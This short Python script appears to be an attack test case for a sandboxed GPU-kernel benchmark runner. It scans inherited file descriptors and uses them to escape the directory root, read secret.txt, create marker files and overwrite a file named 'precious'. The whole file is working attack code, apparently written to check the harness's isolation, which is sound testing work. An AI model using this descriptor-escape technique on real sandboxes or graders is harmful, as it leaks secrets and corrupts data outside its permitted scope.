# Use what whoever started kbrun had open: a directory is a way out of any root.
from attack import *


def go():
    for fd in range(3, 256):
        try:
            names = os.listdir(fd)
        except OSError:
            names = []
        for name in names + ["secret.txt", "../secret.txt"]:
            try:
                file = os.open(name, os.O_RDONLY, dir_fd=fd)
                show(os.read(file, 1 << 16))
                os.close(file)
            except OSError:
                pass
        for name in ("kbattack-" + os.environ["CUDA_ATTACK_MARK"], "precious"):
            try:
                os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, dir_fd=fd))
            except OSError:
                pass
        try:
            if os.readlink(f"/proc/self/fd/{fd}").endswith("/precious"):
                os.write(fd, b"changed")
        except OSError:
            pass


if warming:
    go()
custom_kernel = kernel = once(go)
